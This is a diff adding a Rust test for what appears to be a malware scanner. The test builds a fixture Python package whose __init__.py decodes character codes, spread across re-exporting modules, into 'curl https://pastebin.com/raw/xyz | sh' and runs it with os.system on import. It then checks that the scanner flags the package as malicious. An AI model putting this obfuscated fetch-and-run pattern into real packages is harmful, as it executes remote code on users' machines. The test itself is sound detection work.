@@ -219,3 +219,36 @@ fn ordinary_constants_from_a_sibling_change_nothing() {
     let report = scan(&root);
     assert_eq!(report["verdict"], "benign", "{report}");
 }
+
+#[test]
+fn character_codes_re_exported_by_a_package_init_fold_in_the_importer() {
+    // locute: the codes live in `sub/headers.py`, `sub/__init__.py` re-exports them, and the
+    // importer spells `chr` and the codes' meaning at run time.
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("pk-1.0");
+    let codes: Vec<String> = "curl https://pastebin.com/raw/xyz | sh"
+        .bytes()
+        .map(|b| b.to_string())
+        .collect();
+    let headers = format!("P1 = [{}]\n", codes.join(", "));
+    write_package(
+        &root,
+        &[
+            ("pk/sub/headers.py", headers.as_str()),
+            ("pk/sub/__init__.py", "from .headers import P1\n"),
+            (
+                "pk/__init__.py",
+                "from .sub import P1 as PP\nimport os\n_ = ''.join\nos.system(_([chr(x) for x in PP[:(1 << 5) + (1 << 3) - 2]]))\n",
+            ),
+        ],
+    );
+    let report = scan(&root);
+    let messages = evidence_field(&report, "pk/__init__.py", "message");
+    assert!(
+        messages
+            .iter()
+            .any(|m| m.contains("pastebin.com/raw/xyz | sh")),
+        "{messages:?}"
+    );
+    assert_eq!(report["verdict"], "malicious", "{report}");
+}
